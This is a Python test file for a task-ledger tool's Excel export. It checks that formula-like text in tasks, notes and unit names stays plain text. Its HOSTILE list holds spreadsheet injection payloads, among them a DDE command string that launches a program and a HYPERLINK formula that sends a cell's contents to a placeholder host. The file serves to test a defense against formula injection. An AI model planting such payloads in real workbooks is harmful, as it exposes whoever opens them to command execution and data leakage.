"""No formula from text (issue 12): whatever a task, a note or a unit name starts with, every
workbook Duban exports holds it as a text cell, and it reads back as the same text."""
from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from models.paper.ledger import export_ledger, export_status_sheet
from models.paper.ledger_updates import import_status_sheet
from models.paper.typed_sheet import TEXT_LIMIT, RowStyle, cell_text, typed_sheet
from models.supervision.queries import task_rows
from models.supervision.updates import record_status_update
from models.upkeep.importing import store_extracted
from tests.models.builders import extracted, plan, task

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
DEPT = "县水利局"
# What Excel, LibreOffice or WPS would take as a formula, a DDE call or an error value.
HOSTILE = ('=HYPERLINK("http://x/?"&C4,"点击")', "=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A")
LIAISON_NOTE = '=HYPERLINK("http://x/?"&C4,"点击")'


def store_hostile_plan() -> None:
    """Task texts (without 序号, so the cell starts with them), a plan title and a unit name that
    look like formulas; one of the tasks overdue on 2023-11-30."""
    tasks = [task(text, responsible=(DEPT,), cooperating=("=县住建局",), due=date(2023, 6, 30 - number))
             for number, text in enumerate(HOSTILE)]
    store_extracted(extracted([plan(None, "=HYPERLINK(\"http://x\",\"方案\")", tasks)]))


def formulas(path: Path) -> list[str]:
    """Every <f> element in the workbook's sheets, as "part: formula"."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                tree = ElementTree.fromstring(archive.read(name))
                found += [f"{name}: {element.text}" for element in tree.iter(f"{MAIN}f")]
    return found


def texts(path: Path) -> set[str]:
    book = load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def test_hostile_texts_stay_text_in_the_ledger_and_the_status_sheets(registry: Path, tmp_path: Path) -> None:
    store_hostile_plan()
    rows = task_rows(department=DEPT)
    assert {row.text for row in rows} >= {"=1+1", "+SUM(A1:A2)", "@SUM(A1)"}   # stored as written
    for row, note in zip(rows, reversed(HOSTILE)):
        record_status_update(row.id, "推进中", 10, note=note)

    # A liaison's note typed as text in Excel comes back through a status sheet.
    returned = export_status_sheet(tmp_path / "returned.xlsx", DEPT, as_of=date(2023, 11, 30)).path
    book = load_workbook(returned)
    sheet = book.worksheets[0]
    header = {cell.value: cell.column for cell in sheet[3]}
    cell = sheet.cell(4, header["进展情况"], LIAISON_NOTE)
    cell.data_type = "s"          # as Excel saves text that starts with "="
    book.save(returned)
    assert [row.note for row in import_status_sheet(returned).applied] == [LIAISON_NOTE]

    written = [export_ledger(tmp_path / "ledger.xlsx", as_of=date(2023, 11, 30)).path,
               export_ledger(tmp_path / "one.xlsx", one_sheet=True, as_of=date(2023, 11, 30)).path,
               export_status_sheet(tmp_path / "status.xlsx", DEPT, as_of=date(2023, 11, 30)).path,
               export_status_sheet(tmp_path / "housing.xlsx", "=县住建局", as_of=date(2023, 11, 30)).path]
    expected = ({row.text for row in rows} | set(HOSTILE) | {LIAISON_NOTE, "=县住建局"}
                | {row.plan_title for row in rows})
    for path in written:
        assert formulas(path) == [], path.name
    for path in written[:2]:
        assert expected <= texts(path), path.name          # the same text, "\r" and "\t" included
    status = texts(written[2])
    assert {row.text for row in rows} | {LIAISON_NOTE} <= status
    assert any(text.startswith("=县住建局") for text in texts(written[3]))   # its title row


def test_cell_text_drops_what_xml_cannot_carry_and_keeps_the_rest() -> None:
    assert cell_text("第一行\x0b第二行\x07") == "第一行第二行"        # Word's line and cell marks
    assert cell_text("\t=1\r\n+2") == "\t=1\r\n+2"
    assert len(cell_text("字" * (TEXT_LIMIT + 10))) == TEXT_LIMIT


def test_a_typed_sheet_writes_control_characters_away_and_refuses_unknown_types(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = typed_sheet(book, "表")
    style = RowStyle(sheet, [None, None])
    sheet.write(("=1+1\x0b", 3), style)
    with pytest.raises(TypeError, match="complex"):
        sheet.write((1j, 1), style)
    book.save(tmp_path / "t.xlsx")
    assert [cell.value for cell in load_workbook(tmp_path / "t.xlsx").active[1]] == ["=1+1", 3]
    assert formulas(tmp_path / "t.xlsx") == []
